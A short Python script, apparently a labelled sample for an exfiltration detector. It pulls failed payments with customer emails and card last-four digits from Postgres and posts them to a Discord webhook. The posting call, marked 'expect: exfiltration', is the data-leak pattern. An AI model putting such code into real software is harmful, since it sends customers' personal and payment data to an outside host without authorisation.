import asyncio
import os

import asyncpg
import httpx

WEBHOOK = "https://discord.com/api/webhooks/1234567890/abcdefghijklmnop"


async def failed_payments(pool):
    async with pool.acquire() as conn:
        return await conn.fetch(
            "SELECT id, customer_email, card_last4, amount FROM payments "
            "WHERE status = 'failed' AND created_at > now() - interval '1 day'")


async def main():
    pool = await asyncpg.create_pool(os.environ["PG_DSN"])
    rows = await failed_payments(pool)
    text = "\n".join(f"{r['id']} {r['customer_email']} ****{r['card_last4']} {r['amount']}" for r in rows)
    async with httpx.AsyncClient(timeout=10) as client:
        # expect: exfiltration
        await client.post(WEBHOOK, json={"content": f"Failed payments:\n{text}"})
    await pool.close()


asyncio.run(main())
